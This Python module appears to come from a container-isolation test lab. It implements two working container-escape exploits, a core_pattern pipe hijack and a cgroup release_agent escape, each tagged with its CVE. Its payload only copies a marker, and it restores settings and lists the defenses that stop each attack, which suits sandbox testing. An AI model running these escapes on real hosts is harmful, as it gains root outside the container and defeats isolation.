"""Attacks that make the kernel itself run a program, outside of every container. They act on the whole machine."""

import os
import time
from pathlib import Path

from scratchlab import linux
from scratchlab.attacks.attack import Evidence, attack
from scratchlab.linux import Mount, Umount

CORE_PATTERN = "/proc/sys/kernel/core_pattern"
PATIENCE = 5.0  # seconds until the kernel has run a program


@attack(
    "core(5)", "proc_sys_kernel(5)", stopped_by=("readonly",), also=("unshare_user",), disposable=True,
    history="CVE-2022-0811 (cr8escape) wrote core_pattern from a pod of CRI-O; a writable /proc/sys is all that it takes",
)  # fmt: skip
def core_pattern(volume: str, on_host: str) -> Evidence:
    """Name a program that the kernel runs when a process crashes, and crash: it runs as root of the host.  core(5)"""
    program = _program(volume, on_host)
    before = Path(CORE_PATTERN).read_text()
    linux.write_file(CORE_PATTERN, f"|{program}")
    try:
        crash = linux.fork()
        if crash == 0:
            os.abort()
        os.waitpid(crash, 0)
        return _proof(volume)
    finally:
        linux.write_file(CORE_PATTERN, before)


@attack(
    "cgroups(7)", stopped_by=("unshare_cgroup", "capabilities"), also=("unshare_user",), disposable=True,
    history="Felix Wilhelm, 2019; CVE-2022-0492: a container with CAP_SYS_ADMIN and control groups of version 1",
)  # fmt: skip
def release_agent(volume: str, on_host: str) -> Evidence:
    """Name a program that the kernel runs when a control group is left empty: on the host.  cgroups(7)"""
    program = _program(volume, on_host)
    place, name = f"{volume}/groups", f"lab{os.urandom(4).hex()}"
    linux.mkdir(place)
    _mount_groups(place, name)
    try:
        linux.mkdir(f"{place}/left")
        linux.write_file(f"{place}/release_agent", program)
        linux.write_file(f"{place}/left/notify_on_release", "1")
        leaver = linux.fork()
        if leaver == 0:
            linux.write_file(f"{place}/left/cgroup.procs", "0")
            os._exit(0)
        os.waitpid(leaver, 0)
        return _proof(volume)
    finally:
        os.rmdir(f"{place}/left")
        _forget_groups(place, name)


def _mount_groups(place: str, name: str) -> None:
    """A hierarchy without controllers, of a new name: nobody else's groups are in it.  cgroups(7)"""
    linux.mount("cgroup", place, "cgroup", Mount(0), f"none,name={name}")


def _forget_groups(place: str, name: str) -> None:
    """Unmount until the hierarchy is gone: it outlives a mount for as long as a group of it is not quite dead."""
    deadline = time.monotonic() + PATIENCE
    linux.umount2(place, Umount.DETACH)
    while name in Path("/proc/self/cgroup").read_text() and time.monotonic() < deadline:
        time.sleep(0.2)
        if name in Path("/proc/self/cgroup").read_text():
            _mount_groups(place, name)
            linux.umount2(place, Umount.DETACH)


def _program(volume: str, on_host: str) -> str:
    """A program in the shared folder that copies the marker beside it; gives its path as the host names it."""
    script = Path(volume, "program")
    script.write_text(f"#!/bin/sh\ncat {on_host}/../marker > {on_host}/proof\n")
    script.chmod(0o755)
    return f"{on_host}/program"


def _proof(volume: str) -> Evidence:
    deadline = time.monotonic() + PATIENCE
    proof = Path(volume, "proof")
    while not (proof.exists() and proof.stat().st_size) and time.monotonic() < deadline:
        time.sleep(0.02)
    if not proof.exists():
        return Evidence(False, f"the kernel ran no program of ours in {PATIENCE:g} s")
    return Evidence(True, f"the kernel ran our program, marker says {proof.read_text()}")
